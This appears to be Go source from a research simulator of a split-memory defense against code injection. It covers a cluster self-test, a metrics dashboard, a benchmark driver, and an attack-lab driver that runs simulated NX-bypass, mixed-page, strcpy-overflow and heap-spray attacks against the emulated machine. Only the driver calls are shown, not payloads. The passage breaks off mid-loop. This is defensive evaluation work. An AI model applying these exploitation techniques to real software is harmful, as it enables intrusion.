	type loadDone struct {
		rep *loadtest.Report
		err error
	}
	lch := make(chan loadDone, 1)
	go func() {
		rep, err := loadtest.Run(loadtest.Config{
			BaseURL:    h.URL(),
			Clients:    64,
			Jobs:       2,
			Stream:     true,
			Retry503:   true,
			MaxRetries: 500,
			RetryDelay: 10 * time.Millisecond,
			Body: func(c, j int) ([]byte, error) {
				if c%4 == 0 {
					return json.Marshal(map[string]any{
						"name":       fmt.Sprintf("selftest-c%d-j%d", c, j),
						"source":     selftestSpin,
						"timeout_ms": 60000,
					})
				}
				return loadtest.DefaultJobBody(c, j)
			},
		})
		lch <- loadDone{rep, err}
	}()

	// The hard fault: a crash, not a drain. In-flight jobs on the killed
	// replica lose their streams mid-run and must be recovered elsewhere.
	time.Sleep(250 * time.Millisecond)
	fmt.Println("selftest: killing replica 1 mid-load")
	h.Nodes[1].Kill()
	time.Sleep(500 * time.Millisecond)
	if err := h.Nodes[1].Restart(); err != nil {
		return err
	}
	fmt.Println("selftest: replica 1 restarted")

	ld := <-lch
	if ld.err != nil {
		return ld.err
	}
	rep := ld.rep
	fmt.Println(rep)
	fmt.Printf("selftest: gateway: %d migrations, %d scratch resumes, %d corrupt fetches, %d flight dumps\n",
		h.Gateway.Migrations(), h.Gateway.ScratchResumes(), h.Gateway.CorruptFetches(), h.Gateway.FlightDumps())
	if rep.Lost() != 0 || rep.GaveUp > 0 || len(rep.Failures) > 0 {
		return fmt.Errorf("cluster contract violated: %d lost, %d gave up, %d failures",
			rep.Lost(), rep.GaveUp, len(rep.Failures))
	}
	if got := rep.Clients * rep.Jobs; rep.Completed != got {
		return fmt.Errorf("completed %d of %d jobs", rep.Completed, got)
	}

	if err := checkFederatedMetrics(h.URL()); err != nil {
		return fmt.Errorf("federated metrics: %w", err)
	}
	dumps, err := flightFiles(flightDir)
	if err != nil {
		return err
	}
	if len(dumps) == 0 {
		return fmt.Errorf("killed a replica but the flight recorder wrote nothing to %s", flightDir)
	}
	fmt.Printf("selftest: flight recorder: %d dumps in %s (first: %s)\n", len(dumps), flightDir, dumps[0])
	return nil
}

// checkHealthz requires the gateway /healthz to advertise build info and a
// positive uptime.
func checkHealthz(baseURL string) error {
	resp, err := http.Get(baseURL + "/healthz")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	var h struct {
		Build struct {
			Version string `json:"version"`
			Go      string `json:"go"`
		} `json:"build"`
		UptimeSeconds float64 `json:"uptime_seconds"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&h); err != nil {
		return err
	}
	if h.Build.Go == "" {
		return fmt.Errorf("no build.go in healthz")
	}
	if h.UptimeSeconds < 0 {
		return fmt.Errorf("negative uptime %v", h.UptimeSeconds)
	}
	fmt.Printf("selftest: healthz: build %s/%s, uptime %.3fs\n", h.Build.Version, h.Build.Go, h.UptimeSeconds)
	return nil
}

// migrationTraceProbe streams one long job, drains its host mid-run to
// force a live migration, and requires the merged trace to show the
// gateway plus BOTH replicas under the job's single trace ID with a
// gw.migrate span. With traceOut set, the Chrome-format timeline is
// written there.
func migrationTraceProbe(h *cluster.Harness, traceOut string) error {
	body, err := json.Marshal(map[string]any{
		"name": "trace-probe", "source": selftestProbeSpin, "timeout_ms": 120000,
	})
	if err != nil {
		return err
	}
	req, err := http.NewRequest(http.MethodPost, h.URL()+"/v1/jobs?stream=1", strings.NewReader(string(body)))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("status %d", resp.StatusCode)
	}
	trace := resp.Header.Get("X-Splitmem-Trace")
	if trace == "" {
		return fmt.Errorf("gateway response carries no X-Splitmem-Trace header")
	}

	dec := json.NewDecoder(resp.Body)
	var acc struct {
		Type string `json:"type"`
		ID   uint64 `json:"id"`
	}
	if err := dec.Decode(&acc); err != nil || acc.Type != "accepted" {
		return fmt.Errorf("bad accepted frame (%v)", err)
	}
	owner := -1
	deadline := time.Now().Add(10 * time.Second)
	for owner < 0 && time.Now().Before(deadline) {
		owner = h.Gateway.OwnerIndex(acc.ID)
		if owner < 0 {
			time.Sleep(2 * time.Millisecond)
		}
	}
	if owner < 0 {
		return fmt.Errorf("probe job never got an owner")
	}
	h.Nodes[owner].Drain()
	for {
		var frame struct {
			Type   string `json:"type"`
			Result *struct {
				Reason string `json:"reason"`
			} `json:"result"`
		}
		if err := dec.Decode(&frame); err != nil {
			return fmt.Errorf("stream ended without a result: %v", err)
		}
		if frame.Type == "result" {
			if frame.Result == nil || frame.Result.Reason != "all-done" {
				return fmt.Errorf("probe result not all-done")
			}
			break
		}
	}
	if h.Gateway.Migrations() == 0 {
		return fmt.Errorf("probe job finished without migrating")
	}

	// Fetch the merged trace while the drained server still holds its span
	// ring — a drain keeps the process (and its forensics) alive; only the
	// restart below discards them.
	tr, err := http.Get(h.URL() + "/v1/traces/" + trace)
	if err != nil {
		return err
	}
	defer tr.Body.Close()
	var doc struct {
		Trace string   `json:"trace"`
		Procs []string `json:"procs"`
		Spans []struct {
			Name string `json:"name"`
			Proc string `json:"proc"`
		} `json:"spans"`
	}
	if err := json.NewDecoder(tr.Body).Decode(&doc); err != nil {
		return err
	}
	var gwProcs, repProcs int
	for _, p := range doc.Procs {
		switch {
		case strings.HasPrefix(p, "gateway:"):
			gwProcs++
		case strings.HasPrefix(p, "replica:"):
			repProcs++
		}
	}
	if gwProcs == 0 || repProcs < 2 {
		return fmt.Errorf("merged trace has procs %v; want the gateway and both replicas", doc.Procs)
	}
	var sawMigrate bool
	for _, s := range doc.Spans {
		if s.Name == "gw.migrate" {
			sawMigrate = true
		}
	}
	if !sawMigrate {
		return fmt.Errorf("merged trace has no gw.migrate span")
	}
	fmt.Printf("selftest: trace %s: %d spans across %d processes, migration recorded\n",
		trace, len(doc.Spans), len(doc.Procs))

	if traceOut != "" {
		cr, err := http.Get(h.URL() + "/v1/traces/" + trace + "?format=chrome")
		if err != nil {
			return err
		}
		defer cr.Body.Close()
		f, err := os.Create(traceOut)
		if err != nil {
			return err
		}
		if _, err := f.ReadFrom(cr.Body); err != nil {
			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
		fmt.Printf("selftest: merged Chrome trace written to %s (open in chrome://tracing)\n", traceOut)
	}

	// Put the drained node back so the load phase has three live replicas.
	if err := h.Nodes[owner].Restart(); err != nil {
		return err
	}
	h.AwaitState(owner, cluster.StateUp, 10*time.Second)
	return nil
}

// checkFederatedMetrics requires the gateway /metrics to be a merged
// exposition carrying the gateway's own instruments plus replica series
// under stable replica labels.
func checkFederatedMetrics(baseURL string) error {
	resp, err := http.Get(baseURL + "/metrics")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	text := string(raw)
	for _, want := range []string{
		"splitmem_gateway_jobs_accepted_total",
		`replica="r0"`,
		`replica="r1"`,
		`replica="r2"`,
	} {
		if !strings.Contains(text, want) {
			return fmt.Errorf("federated exposition missing %q", want)
		}
	}
	fmt.Println("selftest: federated /metrics carries gateway instruments and all three replica labels")
	return nil
}

// flightFiles lists the flight-recorder dumps in dir.
func flightFiles(dir string) ([]string, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var out []string
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), "flight-") && strings.HasSuffix(e.Name(), ".json") {
			out = append(out, e.Name())
		}
	}
	return out, nil
}
