package main

// Cluster mode: instead of driving a local simulation, poll a
// splitmem-gateway's /healthz and federated /metrics and render a
// top(1)-style view of the whole cluster — replica states, job counters,
// per-replica service series under their stable replica="rN" labels, and
// the flight-recorder/tracing status.

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"time"
)

// gatewayHealthz mirrors the slices of the gateway /healthz the dashboard
// renders.
type gatewayHealthz struct {
	Status   string `json:"status"`
	Instance string `json:"instance"`
	Build    struct {
		Version string `json:"version"`
		Go      string `json:"go"`
	} `json:"build"`
	UptimeSeconds float64 `json:"uptime_seconds"`
	Replicas      []struct {
		URL          string `json:"url"`
		Label        string `json:"label"`
		State        string `json:"state"`
		Breaker      string `json:"breaker"`
		Instance     string `json:"instance"`
		Depth        int    `json:"depth"`
		Workers      int    `json:"workers"`
		Restarts     int    `json:"restarts"`
		Spans        uint64 `json:"spans_recorded"`
		WorkerPanics uint64 `json:"worker_panics"`
	} `json:"replicas"`
	Jobs       map[string]uint64 `json:"jobs"`
	Resilience map[string]uint64 `json:"resilience"`
	Tracing    struct {
		Enabled  bool   `json:"enabled"`
		Spans    int    `json:"spans"`
		Recorded uint64 `json:"recorded"`
		Dropped  uint64 `json:"dropped"`
	} `json:"tracing"`
	FlightRecorder struct {
		Dir   string `json:"dir"`
		Dumps uint64 `json:"dumps"`
	} `json:"flight_recorder"`
	Federation struct {
		Errors uint64 `json:"errors"`
	} `json:"federation"`
}

// clusterSeries holds the federated samples the dashboard tabulates:
// metric name -> replica label -> value.
type clusterSeries map[string]map[string]float64

// runCluster polls the gateway until interrupted (or forever; ^C ends it).
func runCluster(baseURL string, refresh time.Duration, noClear bool) error {
	baseURL = strings.TrimSuffix(baseURL, "/")
	client := &http.Client{Timeout: 5 * time.Second}
	for frame := 1; ; frame++ {
		h, herr := fetchGatewayHealthz(client, baseURL)
		series, serr := fetchClusterSeries(client, baseURL)
		if !noClear {
			fmt.Print("\x1b[2J\x1b[H")
		}
		fmt.Printf("splitmem-top — cluster %s  frame %d  %s\n", baseURL, frame, time.Now().Format("15:04:05"))
		if herr != nil {
			fmt.Printf("gateway unreachable: %v\n", herr)
		} else {
			renderClusterHealthz(h)
		}
		if serr != nil {
			fmt.Printf("federated metrics unavailable: %v\n", serr)
		} else if h != nil {
			renderClusterSeries(h, series)
		}
		time.Sleep(refresh)
	}
}

func fetchGatewayHealthz(client *http.Client, baseURL string) (*gatewayHealthz, error) {
	resp, err := client.Get(baseURL + "/healthz")
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	var h gatewayHealthz
	if err := json.NewDecoder(resp.Body).Decode(&h); err != nil {
		return nil, err
	}
	return &h, nil
}

// fetchClusterSeries scrapes the federated exposition and keeps every
// sample that carries a replica label, keyed metric -> replica.
func fetchClusterSeries(client *http.Client, baseURL string) (clusterSeries, error) {
	resp, err := client.Get(baseURL + "/metrics")
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, err
	}
	out := clusterSeries{}
	for _, line := range strings.Split(string(raw), "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		brace := strings.IndexByte(line, '{')
		end := strings.LastIndexByte(line, '}')
		if brace < 0 || end <= brace {
			continue
		}
		name := line[:brace]
		labels := line[brace+1 : end]
		rep := ""
		for _, kv := range strings.Split(labels, ",") {
			if k, v, ok := strings.Cut(kv, "="); ok && k == "replica" {
				rep = strings.Trim(v, `"`)
			}
		}
		if rep == "" {
			continue
		}
		val, err := strconv.ParseFloat(strings.Fields(line[end+1:])[0], 64)
		if err != nil {
			continue
		}
		if out[name] == nil {
			out[name] = map[string]float64{}
		}
		// Histogram series repeat per bucket; the last write wins, which is
		// fine — the dashboard only tabulates plain counters and gauges.
		out[name][rep] = val
	}
	return out, nil
}

func renderClusterHealthz(h *gatewayHealthz) {
	fmt.Printf("gateway %s  status=%s  build %s/%s  up %s\n",
		h.Instance, h.Status, h.Build.Version, h.Build.Go,
		(time.Duration(h.UptimeSeconds * float64(time.Second))).Round(time.Second))
	fmt.Printf("jobs: accepted=%d completed=%d retries=%d migrations=%d scratch=%d corrupt=%d shed=%d\n",
		h.Jobs["accepted"], h.Jobs["completed"], h.Jobs["retries"],
		h.Jobs["migrations"], h.Jobs["scratch_resumes"], h.Jobs["corrupt_fetches"], h.Jobs["shed"])
	fmt.Printf("resilience: deadline-504=%d breaker-trips=%d hedged=%d (won %d, lost %d) stale-exports=%d\n",
		h.Resilience["deadline_exceeded"], h.Resilience["breaker_trips"],
		h.Resilience["hedged_fetches"], h.Resilience["hedge_wins"], h.Resilience["hedge_losses"],
		h.Jobs["stale_exports"])
	tracing := "off"
	if h.Tracing.Enabled {
		tracing = fmt.Sprintf("%d spans (%d recorded, %d dropped)", h.Tracing.Spans, h.Tracing.Recorded, h.Tracing.Dropped)
	}
	flight := "off"
	if h.FlightRecorder.Dir != "" {
		flight = fmt.Sprintf("%d dumps in %s", h.FlightRecorder.Dumps, h.FlightRecorder.Dir)
	}
	fmt.Printf("tracing: %s   flight recorder: %s   federation errors: %d\n\n",
		tracing, flight, h.Federation.Errors)

	fmt.Printf("%-4s %-9s %-9s %-18s %8s %8s %8s %10s %8s\n",
		"REPL", "STATE", "BREAKER", "INSTANCE", "WORKERS", "DEPTH", "RESTART", "SPANS", "PANICS")
	for _, r := range h.Replicas {
		inst := r.Instance
		if len(inst) > 16 {
			inst = inst[:16]
		}
		fmt.Printf("%-4s %-9s %-9s %-18s %8d %8d %8d %10d %8d\n",
			r.Label, r.State, r.Breaker, inst, r.Workers, r.Depth, r.Restarts, r.Spans, r.WorkerPanics)
	}
}

// clusterTableMetrics are the federated series tabulated per replica.
var clusterTableMetrics = []struct{ label, name string }{
	{"accepted", "splitmem_serve_jobs_accepted_total"},
	{"completed", "splitmem_serve_jobs_completed_total"},
	{"queue depth", "splitmem_serve_queue_depth"},
	{"checkpoints", "splitmem_serve_checkpoints_total"},
	{"migrated out", "splitmem_serve_jobs_migrated_out_total"},
	{"resumed in", "splitmem_serve_jobs_resumed_in_total"},
	{"worker panics", "splitmem_serve_worker_panics_total"},
	{"host spans", "splitmem_serve_hostspans_recorded_total"},
	{"deadline 504s", "splitmem_serve_deadline_exceeded_total"},
	{"journal degraded (0/1)", "splitmem_serve_journal_degraded"},
	{"journal degraded secs", "splitmem_serve_journal_degraded_seconds_total"},
	{"journal recoveries", "splitmem_serve_journal_recoveries_total"},
}

func renderClusterSeries(h *gatewayHealthz, series clusterSeries) {
	var labels []string
	for _, r := range h.Replicas {
		labels = append(labels, r.Label)
	}
	sort.Strings(labels)
	fmt.Printf("\nFEDERATED SERIES%-12s", "")
	for _, l := range labels {
		fmt.Printf(" %10s", l)
	}
	fmt.Println()
	for _, m := range clusterTableMetrics {
		vals := series[m.name]
		if vals == nil {
			continue
		}
		fmt.Printf("%-28s", m.label)
		for _, l := range labels {
			if v, ok := vals[l]; ok {
				fmt.Printf(" %10.0f", v)
			} else {
				fmt.Printf(" %10s", "-")
			}
		}
		fmt.Println()
	}
}
