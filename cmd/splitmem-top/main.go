// Command splitmem-top runs an S86 guest program with telemetry enabled and
// renders a top(1)-style dashboard of the split engine's activity while the
// simulation advances: machine counters, TLB hit rates, fault-handling
// latency histograms, the hottest split pages and processes, and the most
// recent fault-handling spans.
//
// The simulator is synchronous, so "live" means the run is sliced into
// -interval cycle chunks with the dashboard redrawn between chunks.
//
// Usage:
//
//	splitmem-top [-prot split|split+nx] [-response break|observe|forensics]
//	             [-crt] [-interval cycles] [-top n] [-no-clear] program.s
//
// Cluster mode renders a splitmem-gateway's view instead of a local run:
// replica states from /healthz and per-replica service counters from the
// federated /metrics, refreshed until interrupted:
//
//	splitmem-top -cluster http://gateway:8085 [-refresh 1s] [-no-clear]
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"splitmem"
	"splitmem/internal/guest"
	"splitmem/internal/telemetry"
)

func main() {
	var (
		prot     = flag.String("prot", "split", "protection: none, nx, split, split+nx")
		response = flag.String("response", "break", "response mode: break, observe, forensics")
		withCRT  = flag.Bool("crt", false, "append the guest C runtime to the program")
		interval = flag.Uint64("interval", 500_000, "simulated cycles per dashboard refresh")
		topN     = flag.Int("top", 8, "rows in the hottest-pages/processes tables")
		noClear  = flag.Bool("no-clear", false, "do not clear the screen between refreshes (append frames)")
		spanCap  = flag.Int("span-cap", 0, "span ring capacity (0 = default)")
		clusterG = flag.String("cluster", "", "gateway base URL: render the cluster dashboard instead of a local run")
		refresh  = flag.Duration("refresh", time.Second, "cluster mode: poll period")
	)
	flag.Parse()
	if *clusterG != "" {
		if err := runCluster(*clusterG, *refresh, *noClear); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		return
	}
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: splitmem-top [flags] program.s|program.self")
		os.Exit(2)
	}

	cfg := splitmem.Config{Telemetry: true, TelemetrySpanCap: *spanCap}
	switch *prot {
	case "none":
		cfg.Protection = splitmem.ProtNone
	case "nx":
		cfg.Protection = splitmem.ProtNX
	case "split":
		cfg.Protection = splitmem.ProtSplit
	case "split+nx":
		cfg.Protection = splitmem.ProtSplitNX
	default:
		fmt.Fprintf(os.Stderr, "unknown protection %q\n", *prot)
		os.Exit(2)
	}
	switch *response {
	case "break":
		cfg.Response = splitmem.Break
	case "observe":
		cfg.Response = splitmem.Observe
	case "forensics":
		cfg.Response = splitmem.Forensics
		cfg.ForensicShellcode = splitmem.ExitShellcode()
	default:
		fmt.Fprintf(os.Stderr, "unknown response %q\n", *response)
		os.Exit(2)
	}

	path := flag.Arg(0)
	raw, err := os.ReadFile(path)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	m, err := splitmem.New(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	var p *splitmem.Process
	if strings.HasSuffix(path, ".self") {
		p, err = m.LoadBinary(raw, path)
	} else {
		src := string(raw)
		if *withCRT {
			src = guest.WithCRT(src)
		}
		p, err = m.LoadAsm(src, path)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	p.StdinClose()

	var res splitmem.RunResult
	for frame := 1; ; frame++ {
		res = m.Run(*interval)
		if !*noClear {
			fmt.Print("\x1b[2J\x1b[H")
		}
		render(m, frame, *topN)
		if res.Reason != splitmem.ReasonBudget {
			break
		}
	}

	fmt.Printf("\nrun stopped: %v\n", res.Reason)
	if out := p.StdoutDrain(); len(out) > 0 {
		fmt.Printf("--- guest stdout ---\n%s", out)
	}
	if killed, sig := p.Killed(); killed {
		fmt.Printf("process killed: %v at %#08x\n", sig, p.FaultAddr())
	}
}

// render draws one dashboard frame from the machine's telemetry hub.
func render(m *splitmem.Machine, frame, topN int) {
	s := m.Stats()
	hub := m.Telemetry()
	reg := hub.Registry()

	fmt.Printf("splitmem-top — frame %d  prot=%v\n", frame, m.Protection())
	fmt.Printf("cycles %d  instrs %d  pagefaults %d  debugtraps %d  ctxsw %d  syscalls %d\n",
		s.Cycles, s.Instructions, s.PageFaults, s.DebugTraps, s.CtxSwitches, s.Syscalls)
	fmt.Printf("itlb %s   dtlb %s\n",
		rate(s.ITLBHits, s.ITLBMisses), rate(s.DTLBHits, s.DTLBMisses))
	fmt.Printf("split: pages=%d loads code/data=%d/%d detections=%d\n",
		s.Split.SplitPages, s.Split.CodeTLBLoads, s.Split.DataTLBLoads, s.Split.Detections)
	fmt.Printf("decode cache: %s  invalidations=%d\n",
		rate(s.DecodeHits, s.DecodeMisses), s.DecodeInvalidations)
	fmt.Printf("superblocks: compiled=%d entered=%d side-exits=%d invalidations=%d\n",
		s.SuperblockCompiled, s.SuperblockEntered, s.SuperblockSideExits, s.SuperblockInvalidations)
	fmt.Printf("mem: frames shared/private=%d/%d cow-copies=%d\n\n",
		s.MemSharedFrames, s.MemPrivateFrames, s.MemCowCopies)

	fmt.Println("LATENCY (simulated cycles)        count      mean       min       max")
	for _, h := range []struct{ label, name string }{
		{"#PF handler", "splitmem_cpu_pf_handler_cycles"},
		{"#DB handler", "splitmem_cpu_db_handler_cycles"},
		{"itlb load episode", "splitmem_split_itlb_load_cycles"},
		{"dtlb load episode", "splitmem_split_dtlb_load_cycles"},
		{"TF single-step round trip", "splitmem_split_tf_roundtrip_cycles"},
	} {
		histRow(reg, h.label, h.name)
	}

	fmt.Printf("\nHOT PAGES%-24s loads    HOT PROCESSES      loads\n", "")
	pages := topItems(reg, "splitmem_split_page_loads_total", topN)
	procs := topItems(reg, "splitmem_split_proc_loads_total", topN)
	for i := 0; i < len(pages) || i < len(procs); i++ {
		var left, right string
		if i < len(pages) {
			left = fmt.Sprintf("%-32s %6d", pages[i].Label, pages[i].Count)
		} else {
			left = fmt.Sprintf("%-39s", "")
		}
		if i < len(procs) {
			right = fmt.Sprintf("pid %-14s %6d", procs[i].Label, procs[i].Count)
		}
		fmt.Printf("%s    %s\n", left, right)
	}

	spans := hub.Spans().Tail(topN)
	fmt.Printf("\nRECENT SPANS (%d recorded, %d dropped)\n", hub.Spans().Len(), hub.Spans().Dropped())
	for _, sp := range spans {
		kind := "span"
		if sp.Instant {
			kind = "inst"
		}
		fmt.Printf("  [%12d] %-4s %-22s pid=%d page=0x%08x dur=%d\n",
			sp.Start, kind, sp.Name, sp.PID, sp.VPN<<12, sp.Dur())
	}
}

// histRow prints one histogram summary line, or a dash when empty.
func histRow(reg *telemetry.Registry, label, name string) {
	h := reg.LookupHistogram(name)
	if h == nil || h.Count() == 0 {
		fmt.Printf("%-30s        -\n", label)
		return
	}
	fmt.Printf("%-30s %10d %9.1f %9d %9d\n", label, h.Count(), h.Mean(), h.Min(), h.Max())
}

// topItems returns the top-n labels of a CounterVec (nil-safe).
func topItems(reg *telemetry.Registry, name string, n int) []telemetry.LabelCount {
	v := reg.LookupCounterVec(name)
	if v == nil {
		return nil
	}
	return v.Top(n)
}

// rate formats hit/miss counters as "hits/misses (pct%)".
func rate(hits, misses uint64) string {
	total := hits + misses
	if total == 0 {
		return "0/0"
	}
	return fmt.Sprintf("%d/%d (%.1f%% hit)", hits, misses, 100*float64(hits)/float64(total))
}
