// Command splitmem-bench regenerates the performance evaluation of the
// paper (Table 3 and Figures 6-9).
//
// Usage:
//
//	splitmem-bench [-table3] [-fig6] [-fig7] [-fig8] [-fig9] [-fastpath]
//	               [-forkpool] [-serve] [-cluster] [-parallel N] [-all]
//	               [-json BENCH_results.json]
//
// -fastpath runs the predecode-cache ablation (cache on vs off; the
// simulated side must be bit-identical, the host side reports the speedup).
// -forkpool measures warm-pool economics: machine start latency cold-booted
// vs snapshot-forked (with the fork == cold determinism gate enforced) and
// the physical frames each fork shares with its template copy-on-write.
// SPLITMEM_FORKPOOL_GUARD=1 go test -run TestForkPoolSpeedupGuard pins the
// speedup floor in CI.
// -serve runs the splitmem-serve load harness (64 clients against an
// 8-worker in-process server) and reports service throughput.
// -cluster runs the sharded-cluster failover harness (64 clients against a
// gateway over three replicas through a full rolling restart) and reports
// throughput, migration counts, and checkpoint-migration latency; it also
// measures the distributed-tracing overhead (same steady-state load with
// host-span tracing off vs on). SPLITMEM_CLUSTER_TRACE_GUARD=1 turns the
// overhead row into an assertion: traced throughput must stay within 5%
// of untraced.
// -parallel N fans the nbench workload out over a fleet of N machines and
// reports the scaling figure.
//
// -json additionally writes every table and figure the run produced as one
// machine-readable JSON document (schema "splitmem-bench/v1", documented in
// EXPERIMENTS.md) for CI artifacts and plotting scripts.
package main

import (
	"flag"
	"fmt"
	"os"

	"splitmem/internal/bench"
)

func main() {
	var (
		table3   = flag.Bool("table3", false, "print the configuration table")
		fig6     = flag.Bool("fig6", false, "run the normalized application benchmarks")
		fig7     = flag.Bool("fig7", false, "run the context-switch stress tests")
		fig8     = flag.Bool("fig8", false, "run the Apache page-size sweep")
		fig9     = flag.Bool("fig9", false, "run the fractional-splitting sweep")
		fastpath = flag.Bool("fastpath", false, "run the predecode-cache ablation")
		forkpool = flag.Bool("forkpool", false, "run the warm-pool cold-boot-vs-fork bench")
		srv      = flag.Bool("serve", false, "run the splitmem-serve throughput load test")
		clust    = flag.Bool("cluster", false, "run the sharded-cluster rolling-restart failover bench")
		parallel = flag.Int("parallel", 0, "fan the nbench fleet out over N machines")
		all      = flag.Bool("all", false, "run everything")
		jsonPath = flag.String("json", "", "also write results as JSON to this file")
	)
	flag.Parse()
	if !(*table3 || *fig6 || *fig7 || *fig8 || *fig9 || *fastpath || *forkpool || *srv || *clust || *parallel > 0) {
		*all = true
	}
	results := bench.NewResults()
	if *all || *table3 {
		t := bench.Table3()
		fmt.Println(t.Render())
		results.AddTable("table3", t)
	}
	figs := []struct {
		on  bool
		fn  func() (*bench.Figure, error)
		tag string
	}{
		{*all || *fig6, bench.Fig6, "fig6"},
		{*all || *fig7, bench.Fig7, "fig7"},
		{*all || *fig8, bench.Fig8, "fig8"},
		{*all || *fig9, bench.Fig9, "fig9"},
	}
	for _, f := range figs {
		if !f.on {
			continue
		}
		fig, err := f.fn()
		if err != nil {
			fmt.Fprintf(os.Stderr, "%s: %v\n", f.tag, err)
			os.Exit(1)
		}
		fmt.Println(fig.Render())
		results.AddFigure(f.tag, fig)
	}
	if *all || *fastpath {
		t, runs, err := bench.FastPath()
		if err != nil {
			fmt.Fprintf(os.Stderr, "fastpath: %v\n", err)
			os.Exit(1)
		}
		fmt.Println(t.Render())
		results.AddTable("fastpath", t)
		results.AddFigure("fastpath-sim", bench.FastPathSimFigure(runs))
	}
	if *all || *forkpool {
		t, runs, err := bench.ForkPool()
		if err != nil {
			fmt.Fprintf(os.Stderr, "forkpool: %v\n", err)
			os.Exit(1)
		}
		fmt.Println(t.Render())
		results.AddTable("forkpool", t)
		results.AddFigure("forkpool", bench.ForkPoolFigure(runs))
	}
	if *all || *srv {
		fig, err := bench.ServeThroughput(64, 2, 8)
		if err != nil {
			fmt.Fprintf(os.Stderr, "serve: %v\n", err)
			os.Exit(1)
		}
		fmt.Println(fig.Render())
		results.AddFigure("serve", fig)
	}
	if *all || *clust {
		fig, err := bench.ClusterFailover(64, 2)
		if err != nil {
			fmt.Fprintf(os.Stderr, "cluster: %v\n", err)
			os.Exit(1)
		}
		fmt.Println(fig.Render())
		results.AddFigure("cluster", fig)
		tfig, err := bench.ClusterTracingOverhead(64, 2)
		if err != nil {
			fmt.Fprintf(os.Stderr, "cluster tracing overhead: %v\n", err)
			os.Exit(1)
		}
		fmt.Println(tfig.Render())
		results.AddFigure("cluster-tracing", tfig)
	}
	if n := *parallel; n > 0 || *all {
		if n <= 0 {
			n = 4
		}
		fig, err := bench.FleetScaling(n, 4)
		if err != nil {
			fmt.Fprintf(os.Stderr, "fleet: %v\n", err)
			os.Exit(1)
		}
		fmt.Println(fig.Render())
		results.AddFigure("fleet", fig)
	}
	if *jsonPath != "" {
		out, err := os.Create(*jsonPath)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		if err := results.WriteJSON(out); err != nil {
			out.Close()
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		if err := out.Close(); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
}
