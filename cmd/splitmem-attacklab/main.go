// Command splitmem-attacklab regenerates the effectiveness evaluation of
// the paper: Table 1 (benchmark attacks foiled), Table 2 (real-world
// vulnerabilities), Fig. 5 (response modes), plus the NX-bypass and
// mixed-page demonstrations that motivate the work.
//
// Usage:
//
//	splitmem-attacklab [-table1] [-table2] [-fig5] [-bypass] [-all]
package main

import (
	"flag"
	"fmt"
	"os"

	"splitmem"
	"splitmem/internal/attacks"
	"splitmem/internal/bench"
)

func main() {
	var (
		table1 = flag.Bool("table1", false, "run the Wilander-style benchmark grid")
		table2 = flag.Bool("table2", false, "run the five real-world exploits")
		fig5   = flag.Bool("fig5", false, "demonstrate the response modes")
		bypass = flag.Bool("bypass", false, "run the NX-bypass and mixed-page attacks")
		all    = flag.Bool("all", false, "run everything")
	)
	flag.Parse()
	if !(*table1 || *table2 || *fig5 || *bypass) {
		*all = true
	}
	die := func(err error) {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	if *all || *table1 {
		t, err := bench.Table1()
		if err != nil {
			die(err)
		}
		fmt.Println(t.Render())
	}
	if *all || *table2 {
		t, err := bench.Table2()
		if err != nil {
			die(err)
		}
		fmt.Println(t.Render())
	}
	if *all || *fig5 {
		out, err := bench.Fig5()
		if err != nil {
			die(err)
		}
		fmt.Println(out)
	}
	if *all || *bypass {
		fmt.Println("NX-bypass (mprotect re-protection) attack:")
		for _, prot := range []splitmem.Protection{splitmem.ProtNone, splitmem.ProtNX, splitmem.ProtSplit} {
			r, err := attacks.RunNXBypass(splitmem.Config{Protection: prot})
			if err != nil {
				die(err)
			}
			fmt.Printf("  %-9s %s\n", prot, r)
		}
		fmt.Println("\nMixed code+data page attack (Fig. 1b):")
		cfgs := []struct {
			name string
			cfg  splitmem.Config
		}{
			{"none", splitmem.Config{Protection: splitmem.ProtNone}},
			{"nx", splitmem.Config{Protection: splitmem.ProtNX}},
			{"split", splitmem.Config{Protection: splitmem.ProtSplit}},
			{"split(mixed-only)+nx", splitmem.Config{Protection: splitmem.ProtSplitNX, MixedOnly: true}},
		}
		for _, c := range cfgs {
			r, err := attacks.RunMixedPage(c.cfg)
			if err != nil {
				die(err)
			}
			fmt.Printf("  %-21s %s\n", c.name, r)
		}

		fmt.Println("\nstrcpy overflow with NUL/LF-free encoded payload:")
		for _, prot := range []splitmem.Protection{splitmem.ProtNone, splitmem.ProtSplit} {
			r, err := attacks.RunStrcpyScenario(splitmem.Config{Protection: prot})
			if err != nil {
				die(err)
			}
			fmt.Printf("  %-9s %s\n", prot, r)
		}

		fmt.Println("\nleak-free heap spray (16 blocks, PIC shellcode):")
		for _, prot := range []splitmem.Protection{splitmem.ProtNone, splitmem.ProtNX, splitmem.ProtSplit} {
			r, err := attacks.RunHeapSpray(splitmem.Config{Protection: prot}, 16)
			if err != nil {
				die(err)
			}
